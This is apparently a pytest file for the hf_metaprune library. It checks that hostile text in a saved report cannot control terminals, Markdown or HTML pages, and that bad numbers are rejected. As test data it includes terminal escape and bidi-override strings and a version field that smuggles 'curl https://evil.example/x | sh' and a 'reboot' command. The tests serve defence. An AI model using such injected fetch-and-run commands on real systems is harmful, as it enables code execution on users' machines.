"""What a stranger wrote into a report reaches neither Markdown nor a terminal with characters that control either."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from hf_metaprune import AdaptResult, MetaPruner, load_result
from hf_metaprune.data.task import TaskData
from hf_metaprune.errors import FormatError
from hf_metaprune.reporting.figures import agreement_figure
from hf_metaprune.reporting.report_files import load_report, report_drawings

HOSTILE = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202egnp.exe\u2066\x00"
CONTROLS = "\x1b\x07\x9b\u202e\u2066\x00"


@pytest.fixture(scope="module")
def result(bank_folder: Path, task_data: TaskData) -> AdaptResult:
    return MetaPruner.from_hub(bank_folder).adapt(task_data.select((0, 1)), steps=1, batch_size=8, eval_steps=(0,))


def poison(value: Any) -> Any:
    """Add hostile characters to all texts, names of fields apart."""
    if isinstance(value, dict):
        return {key: poison(item) for key, item in value.items()}
    if isinstance(value, list):
        return [poison(item) for item in value]
    return value + HOSTILE if isinstance(value, str) else value


def test_no_text_of_a_report_controls_what_shows_it(
    result: AdaptResult, tmp_path: Path, capfd: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    from hf_metaprune.cli import main

    result.save_pretrained(tmp_path / "model")
    path = tmp_path / "model" / "report.json"
    values = json.loads(path.read_text())
    values = {key: poison(value) for key, value in values.items()}
    for key, value in {"seconds": 1.0, "versions": "1.0", "accuracy_per_class": 0.5, "baselines": {"0": 0.5}}.items():
        values[key][HOSTILE] = value
    path.write_text(json.dumps(values))
    loaded = load_result(tmp_path / "model")
    assert loaded.report.source.endswith(HOSTILE)  # it was read
    loaded.save_pretrained(tmp_path / "copy")
    for text in (str(loaded.report), loaded.report.headline(), loaded.to_html()):
        assert not set(CONTROLS) & set(text)
    for name in ("report.md", "README.md"):
        text = (tmp_path / "copy" / name).read_text()
        assert "gnp.exe" in text
        assert [line for line in text.splitlines() if set(CONTROLS) & set(line)] == [], name
    for words in (["inspect", str(tmp_path / "model")], ["publish", str(tmp_path / "model"), "nobody/nowhere"]):
        monkeypatch.setattr("sys.argv", ["hf-metaprune", *words])
        with pytest.raises(SystemExit):
            main(words)
        output = "".join(capfd.readouterr())
        assert not set(CONTROLS) & set(output), words


@pytest.mark.parametrize(
    ("changes", "message"),
    [
        ({"base_params": 1, "base_macs": 10**400}, "too large"),
        ({"seconds": {"a": float("inf")}}, "too large"),
        ({"accuracy_at_step": {"0": 0.5, "1" * 4000: 0.5}}, "too large"),
        ({"accuracy_at_step": {"0": 0.5, "1": 1.5}}, "outside 0 to 1"),
        ({"vote_agreement": {"a": {"1": 10**400}}}, "too large"),
        ({"losses": [0.5, 1e300]}, "too large"),
        ({"confusion": [[10**400]], "labels": ["a"]}, "too large"),
        ({"labels": ["a", 5], "confusion": []}, "labels has another type"),
        ({"accuracy_per_class": {"a": True, "b": "fp32"}}, "accuracy_per_class has another type"),
        ({"accuracy_at_step": {"0": None, "1": 0.5}}, "accuracy_at_step has another type"),
        ({"losses": [0.5, "0.5"]}, "losses has another type"),
        ({"losses": [0.5, None]}, "losses has another type"),
        ({"confusion": [["1"]], "labels": ["a"]}, "confusion has another type"),
        ({"baselines": {"a": [0.5]}}, "is not a report"),
        ({"neighbors": [{"id": "x", "labels": "cat", "score": 1.0}]}, "neighbor's labels"),
        ({"neighbors": [{"id": "x", "labels": ["cat"], "score": 1.0, "share": "much"}]}, "neighbor's share"),
        ({"latency_ms": {"model": 1.0}}, "lacks the model or the base"),
        ({"seconds": {"a": None}}, "seconds has another type"),
        ({"options": {"a": {}}}, "options has another type"),
        ({"seed": "1"}, "seed has another type"),
    ],
)
def test_numbers_that_cannot_be_shown_are_refused(
    result: AdaptResult, tmp_path: Path, changes: dict[str, Any], message: str
) -> None:
    result.save_pretrained(tmp_path / "model")
    path = tmp_path / "model" / "report.json"
    path.write_text(json.dumps(json.loads(path.read_text()) | changes))
    with pytest.raises(FormatError, match=message):
        load_report(path)


@pytest.mark.slow
def test_numbers_of_nothing_can_be_shown(result: AdaptResult, tmp_path: Path) -> None:
    result.save_pretrained(tmp_path / "model")
    path = tmp_path / "model" / "report.json"
    changes = {"base_params": 1, "base_macs": 0, "baseline_flops": {"a": 0}, "training_flops": 0}
    path.write_text(json.dumps(json.loads(path.read_text()) | changes))
    assert "0.0%" in load_result(tmp_path / "model").to_html()


@pytest.mark.slow
def test_the_command_of_a_page_has_only_what_commands_have(result: AdaptResult, tmp_path: Path) -> None:
    result.save_pretrained(tmp_path / "model")
    path = tmp_path / "model" / "report.json"
    values = json.loads(path.read_text())
    values["versions"]["hf_metaprune"] = "1.0; curl https://evil.example/x | sh #"
    values["given"] = {"steps": 3, "x; reboot": "1"}
    path.write_text(json.dumps(values))
    page = load_result(tmp_path / "model").to_html()
    assert "pip install hf-metaprune\n" in page
    assert "--steps 3" in page
    assert "reboot" not in page


@pytest.mark.slow
def test_huge_votes_are_not_drawn(result: AdaptResult, tmp_path: Path) -> None:
    result.save_pretrained(tmp_path / "model")
    path = tmp_path / "model" / "report.json"
    values = json.loads(path.read_text())
    values["neighbors"] = values["neighbors"][:1] * 1000
    values["vote_agreement"] = {f"layer{i}": {"1": 1} for i in range(50)}
    path.write_text(json.dumps(values))
    report = load_report(path)
    assert "Votes" not in report_drawings(report)
    assert "How many voters" not in load_result(tmp_path / "model").to_html()


@pytest.mark.slow
def test_a_page_of_a_huge_report_is_short(result: AdaptResult, tmp_path: Path) -> None:
    result.save_pretrained(tmp_path / "model")
    path = tmp_path / "model" / "report.json"
    values = json.loads(path.read_text())
    values["accuracy_per_class"] = {f"class {i}": 0.5 for i in range(10_000)}
    values["notes"] = ["x" * 10_000] * 49
    path.write_text(json.dumps(values))
    page = load_result(tmp_path / "model").to_html()
    assert "class 100" in page
    assert len(page) < 300_000


def test_a_long_name_of_a_layer_is_drawn_short() -> None:
    """Sixty names of 4,000 characters took 19 seconds."""
    picture = agreement_figure({"a" * 4000: {1: 1}, "layer1.0.conv1": {0: 1}}, 2)
    names = [label.get_text() for label in picture.axes[0].get_yticklabels()]
    assert names == ["a" * 59 + "…", "layer1.0.conv1"]


def test_texts_of_a_config_are_plain_in_a_card(result: AdaptResult, tmp_path: Path) -> None:
    config = result.model.config
    config.metrics, config.synsets = {"a\u202e": "b\u2066"}, ["cat\u202e", *[None] * (config.num_labels - 1)]
    card = (result.save_pretrained(tmp_path / "model") / "README.md").read_text()
    assert not {"\u202e", "\u2066"} & set(card)
    assert "cat\N{REPLACEMENT CHARACTER}" in card
